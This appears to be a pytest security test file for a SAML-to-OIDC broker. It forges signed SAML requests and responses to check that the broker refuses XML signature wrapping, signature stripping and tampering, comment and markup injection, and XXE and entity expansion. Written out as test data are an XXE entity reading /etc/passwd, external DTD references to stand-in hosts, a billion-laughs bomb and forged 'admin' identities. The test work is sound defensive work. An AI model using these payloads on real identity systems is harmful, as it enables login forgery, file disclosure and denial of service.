"""Attacks on SAML messages: XML signature wrapping, signature exclusion and tampering, comment and markup
injection, XXE and entity expansion (docs/security.md, the rows of the same names).

Two levels: the in-process XML-signature verifier (``broker.saml.xmlsec_backend``) against responses that a
real pysaml2 IdP issued and the test then forged, and the broker's SSO endpoints against AuthnRequests that a
real pysaml2 SP signed and the test then forged. Each attempt must be refused, and the endpoint tests check
that nothing was stored and the upstream was never asked.
"""

from __future__ import annotations

import base64
import copy
import re
import zlib
from typing import Any
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

import pytest
from lxml import etree  # type: ignore[import-untyped]
from saml2.sigver import SignatureError

from broker.demo.oidc_provider_config import Mischief
from broker.saml.xmlsec_backend import InProcessXmlSecBackend
from tests.flows.federation import Federation, saml_status
from tests.peers.browser import Browser
from tests.saml.samlsig_support import (
    ASSERTION_NODE,
    NAME_ID_VALUE,
    NS,
    RESPONSE_NODE,
    KeyPair,
    MakeIdp,
    MakeSp,
    ids_of,
    issue_response,
    parse_xml,
    refuse_both,
    sp_parse,
    to_xml,
    verify_both,
)
from tests.security.attack_support import DENIED, REQUESTER, assert_nothing_stored, assert_page, with_param

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"


@pytest.fixture
def backend() -> InProcessXmlSecBackend:
    return InProcessXmlSecBackend()




def _post_request_xml(federation: Federation) -> tuple[str, dict[str, str], bytes]:
    """A signed HTTP-POST AuthnRequest of sp1: (SSO URL, form fields, the request's XML)."""
    _, destination, fields = federation.sps["sp1"].post_request()
    return destination, fields, base64.b64decode(fields["SAMLRequest"])


def _post_forged(browser: Browser, destination: str, fields: dict[str, str], xml: bytes) -> Any:
    return browser.post(destination, {**fields, "SAMLRequest": base64.b64encode(xml).decode()})


def _redirect_url(federation: Federation, xml: bytes) -> str:
    """An unsigned Redirect-binding URL carrying ``xml`` (deflated, base64), as an attacker would send it."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    encoded = base64.b64encode(deflate.compress(xml) + deflate.flush()).decode()
    return f"{federation.url}/saml2/idp/sso/redirect?{urlencode({'SAMLRequest': encoded})}"


# -- XML signature wrapping -----------------------------------------------------------------------------------
# (the first two moved here from tests/saml/test_inprocess_xmlsig.py)


def _assertion_signed_only(make_idp: MakeIdp) -> tuple[Any, Any, str]:
    root = parse_xml(issue_response(make_idp(), sign_response=False, sign_assertion=True))
    assertion = root.find("saml:Assertion", NS)
    return root, assertion, assertion.get("ID")


def _evil_copy(assertion: Any, new_id: str) -> Any:
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id)
    evil.remove(evil.find("ds:Signature", NS))
    evil.find("saml:Subject/saml:NameID", NS).text = "admin"
    return evil


def test_xml_signature_wrapping_signature_moved_onto_an_evil_assertion(
    make_idp: MakeIdp, make_sp: MakeSp, backend: InProcessXmlSecBackend, idp_keys: KeyPair
) -> None:
    root, signed, signed_id = _assertion_signed_only(make_idp)
    evil = _evil_copy(signed, "_evil")
    # The evil assertion carries the genuine signature (Reference URI="#<signed_id>") and hides the signed
    # assertion in its saml:Advice (schema-valid), so xmlsec alone would resolve the reference to a valid digest.
    root.replace(signed, evil)
    signature = signed.find("ds:Signature", NS)
    signed.remove(signature)
    evil.insert(1, signature)
    advice = etree.Element(f"{{{NS['saml']}}}Advice")
    evil.find("saml:Conditions", NS).addnext(advice)
    advice.append(signed)
    forged = to_xml(root)
    with pytest.raises(SignatureError, match="reference URI"):
        backend.validate_signature(forged, idp_keys.cert_file, "pem", ASSERTION_NODE, "_evil")
    with pytest.raises(SignatureError, match="ds:Signature child"):  # the hidden one lost its signature
        backend.validate_signature(forged, idp_keys.cert_file, "pem", ASSERTION_NODE, signed_id)
    with pytest.raises(SignatureError):
        sp_parse(make_sp(in_process=True), forged)


def test_xml_signature_wrapping_moved_assertion(
    make_idp: MakeIdp, make_sp: MakeSp, backend: InProcessXmlSecBackend, idp_keys: KeyPair
) -> None:
    root, signed, signed_id = _assertion_signed_only(make_idp)
    evil = _evil_copy(signed, signed_id)
    evil.insert(1, copy.deepcopy(signed.find("ds:Signature", NS)))
    # the signed assertion is moved away (into samlp:StatusDetail), the evil one takes its place and its ID
    root.replace(signed, evil)
    detail = etree.SubElement(root.find("samlp:Status", NS), f"{{{NS['samlp']}}}StatusDetail")
    detail.append(signed)
    forged = to_xml(root)
    with pytest.raises(SignatureError, match="exactly one element with ID"):
        backend.validate_signature(forged, idp_keys.cert_file, "pem", ASSERTION_NODE, signed_id)
    with pytest.raises(SignatureError):
        sp_parse(make_sp(in_process=True), forged)


def test_xml_signature_wrapping_authn_request_at_the_sso_endpoint(federation: Federation, browser: Browser) -> None:
    """An evil AuthnRequest (another ID, ForceAuthn set) hides the genuine signed one in its Extensions and carries
    the genuine signature, moved out of it; the reference still names the hidden request, whose digest holds."""
    destination, fields, xml = _post_request_xml(federation)
    genuine = etree.fromstring(xml)
    evil = copy.deepcopy(genuine)
    evil.set("ID", "_evil-" + genuine.get("ID"))
    evil.set("ForceAuthn", "true")
    genuine.remove(genuine.find("{http://www.w3.org/2000/09/xmldsig#}Signature"))
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    wrapper = etree.SubElement(extensions, "{urn:example:wrapper}Hidden")
    wrapper.append(genuine)
    evil.find("{http://www.w3.org/2000/09/xmldsig#}Signature").addnext(extensions)
    page = _post_forged(browser, destination, fields, etree.tostring(evil))

    assert_page(page, 400)  # refused while the SP is not yet trusted: a page, never a form
    assert federation.provider.hits("authorize") == 0
    assert_nothing_stored(federation)


# -- signature exclusion and tampering ------------------------------------------------------------------------
# (moved here from tests/flows/test_saml_to_oidc_attacks.py and tests/saml/test_inprocess_xmlsig.py)


def test_signature_exclusion_redirect_signature_stripped(federation: Federation, browser: Browser) -> None:
    _, location = federation.sps["sp1"].redirect_request()
    unsigned = urlunsplit(urlsplit(location)._replace(query=urlencode(
        [(k, v) for k, v in parse_qsl(urlsplit(location).query) if k not in ("Signature", "SigAlg")])))
    page = browser.get(unsigned)

    assert saml_status(browser.form_fields(page)) == (REQUESTER, DENIED)
    assert_nothing_stored(federation)


def test_signature_exclusion_post_signature_stripped(federation: Federation, browser: Browser) -> None:
    """sp1's metadata says AuthnRequestsSigned: a POST request whose ds:Signature was removed is refused."""
    destination, fields, xml = _post_request_xml(federation)
    root = etree.fromstring(xml)
    root.remove(root.find("{http://www.w3.org/2000/09/xmldsig#}Signature"))
    page = _post_forged(browser, destination, fields, etree.tostring(root))

    assert saml_status(browser.form_fields(page)) == (REQUESTER, DENIED)
    assert federation.provider.hits("authorize") == 0
    assert_nothing_stored(federation)


def test_signature_exclusion_response_borrows_the_assertions_signature(
    make_idp: MakeIdp, backend: InProcessXmlSecBackend, idp_keys: KeyPair
) -> None:
    root, signed, _ = _assertion_signed_only(make_idp)
    # The Response carries no signature of its own; the assertion's one is not the Response's.
    response_id = root.get("ID")
    with pytest.raises(SignatureError, match="ds:Signature child"):
        backend.validate_signature(to_xml(root), idp_keys.cert_file, "pem", RESPONSE_NODE, response_id)
    with pytest.raises(SignatureError, match="expected"):  # node name must match too
        backend.validate_signature(to_xml(root), idp_keys.cert_file, "pem", RESPONSE_NODE, signed.get("ID"))


def test_signature_tampering_redirect_relay_state(federation: Federation, browser: Browser) -> None:
    _, location = federation.sps["sp1"].redirect_request(relay_state="original")
    page = browser.get(with_param(location, "RelayState", "tampered"))

    assert saml_status(browser.form_fields(page)) == (REQUESTER, DENIED)
    assert federation.provider.hits("authorize") == 0
    assert_nothing_stored(federation)


def test_signature_tampering_post_acs_url(federation: Federation, browser: Browser) -> None:
    sp = federation.sps["sp1"]
    _, destination, fields = sp.post_request()
    xml = base64.b64decode(fields["SAMLRequest"]).decode()
    evil = xml.replace(sp.acs_url, sp.acs_url + "?evil=1")  # a signed field changed after signing
    assert evil != xml
    page = browser.post(destination, {**fields, "SAMLRequest": base64.b64encode(evil.encode()).decode()})

    assert_page(page, 400)
    assert_nothing_stored(federation)


# -- comment and markup injection -----------------------------------------------------------------------------


def test_comment_injection_in_signed_name_id_and_attribute_is_read_whole(
    make_idp: MakeIdp, make_sp: MakeSp, backend: InProcessXmlSecBackend, idp_keys: KeyPair
) -> None:
    """The 2018 SAML comment-injection attack: a comment inside signed text leaves the signature valid (exclusive
    c14n drops comments), so the reader must see the whole text, not the part before the comment (lxml's
    ``.text``). The broker's verifier checks the comment-free canonical form and pysaml2 reads the text with
    ElementTree, which joins the pieces: what is read is what was signed."""
    xml = issue_response(make_idp())
    assert xml.count(NAME_ID_VALUE) == 1 and xml.count("alice@example.org") == 1
    forged = xml.replace(NAME_ID_VALUE, "alice<!--.evil.example-->-7f3a9c").replace(
        "alice@example.org", "alice@example<!--.evil.example-->.org")
    verify_both(backend, forged, idp_keys.cert_file)  # the signature holds: comments are not signed content

    parsed = sp_parse(make_sp(in_process=True), forged)
    assert parsed.name_id.text == NAME_ID_VALUE  # not "alice"
    assert parsed.ava["mail"] == ["alice@example.org"]  # not "alice@example"


def test_comment_injection_changing_signed_text_is_refused(
    make_idp: MakeIdp, backend: InProcessXmlSecBackend, idp_keys: KeyPair
) -> None:
    """Truncating signed text behind a comment (the value a naive reader would see) breaks the signature."""
    xml = issue_response(make_idp())
    forged = xml.replace(NAME_ID_VALUE, "admin<!--" + NAME_ID_VALUE + "-->")
    refuse_both(backend, forged, idp_keys.cert_file, match="invalid")


MARKUP = '</saml:AttributeValue></saml:Attribute><saml:Attribute Name="role"><saml:AttributeValue>admin'


def test_markup_injection_in_upstream_claims_reaches_the_sp_as_text(federation: Federation,
                                                                     browser: Browser) -> None:
    """An upstream account whose names hold a comment and XML markup: the broker's signed assertion must carry
    them as text (escaped), so the SP reads exactly those strings and no extra attribute or value."""
    federation.provider.mischief = Mischief(claim_overrides={"given_name": "Eve<!-- x -->admin", "family_name": MARKUP})
    request_id, page = federation.login(browser)
    response = federation.sps["sp1"].parse(browser.form_fields(page)["SAMLResponse"], request_id)

    identity = response.get_identity()
    assert identity["givenName"] == ["Eve<!-- x -->admin"]
    assert identity["sn"] == [MARKUP]
    assert set(identity) == {"mail", "givenName", "sn"}


# -- XXE and entity expansion ---------------------------------------------------------------------------------


def test_entity_expansion_doctype_in_post_request(federation: Federation, browser: Browser) -> None:
    # (moved here from tests/flows/test_saml_to_oidc_attacks.py)
    sp = federation.sps["sp1"]
    _, destination, fields = sp.post_request()
    xml = base64.b64decode(fields["SAMLRequest"]).decode()
    bomb = '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + xml
    page = browser.post(destination, {**fields, "SAMLRequest": base64.b64encode(bomb.encode()).decode()})

    assert_page(page, 400)
    assert_nothing_stored(federation)


BILLION_LAUGHS = "".join(
    ['<!DOCTYPE samlp:AuthnRequest [<!ENTITY l0 "lol">']
    + [f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    + ["]>"])


@pytest.mark.parametrize("doctype, reference", [
    pytest.param('<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;",
                 id="external-entity-file"),
    pytest.param('<!DOCTYPE samlp:AuthnRequest [<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;]>', "",
                 id="external-parameter-entity"),
    pytest.param(BILLION_LAUGHS, "&l9;", id="billion-laughs"),
])
def test_xxe_and_entity_expansion_in_redirect_request(federation: Federation, browser: Browser, doctype: str,
                                                      reference: str) -> None:
    """Declarations in a Redirect-binding request (deflated, so a bomb is tiny on the wire) are refused before
    any entity is resolved or expanded; nothing of a local file shows."""
    _, location = federation.sps["sp1"].redirect_request()
    text = zlib.decompress(base64.b64decode(dict(parse_qsl(urlsplit(location).query))["SAMLRequest"]), -15).decode()
    declaration = re.match(r"<\?xml[^>]*\?>\s*", text)
    body = text[declaration.end():] if declaration else text
    issuer = re.search(r"(<(?:saml:|ns\d:)?Issuer[^>]*>)([^<]*)<", body)
    assert issuer is not None, body[:300]
    forged = body.replace(issuer.group(0), issuer.group(1) + issuer.group(2) + reference + "<", 1)
    page = browser.get(_redirect_url(federation, (doctype + forged).encode()))
    control = browser.get(_redirect_url(federation, body.encode()))  # the same request without the DOCTYPE...

    assert saml_status(browser.form_fields(control)) == (REQUESTER, DENIED)  # ...parses: refused as unsigned only
    assert_page(page, 400)
    assert "root:" not in page.text and "lol" not in page.text
    assert federation.provider.hits("authorize") == 0
    assert_nothing_stored(federation)


@pytest.mark.parametrize(
    "doctype",
    ['<!DOCTYPE Response [<!ENTITY who "alice@example.org">]>', '<!DOCTYPE Response SYSTEM "http://evil.test/x.dtd">'],
)
def test_xxe_doctype_and_entity_declarations_are_refused_by_the_verifier(
    make_idp: MakeIdp, backend: InProcessXmlSecBackend, idp_keys: KeyPair, doctype: str
) -> None:
    # (moved here from tests/saml/test_inprocess_xmlsig.py)
    xml = issue_response(make_idp())
    declaration = re.match(r"<\?xml[^>]*\?>\s*", xml)
    assert declaration is not None
    body = xml[declaration.end() :]
    if "ENTITY" in doctype:
        body = body.replace("alice@example.org", "&who;")
    forged = f"{declaration.group(0)}{doctype}\n{body}"
    refuse_both(backend, forged, idp_keys.cert_file, match="DOCTYPE")
    response_id, _ = ids_of(xml)
    with pytest.raises(SignatureError, match="DOCTYPE"):
        backend.sign_statement(forged, RESPONSE_NODE, idp_keys.key_file, response_id)
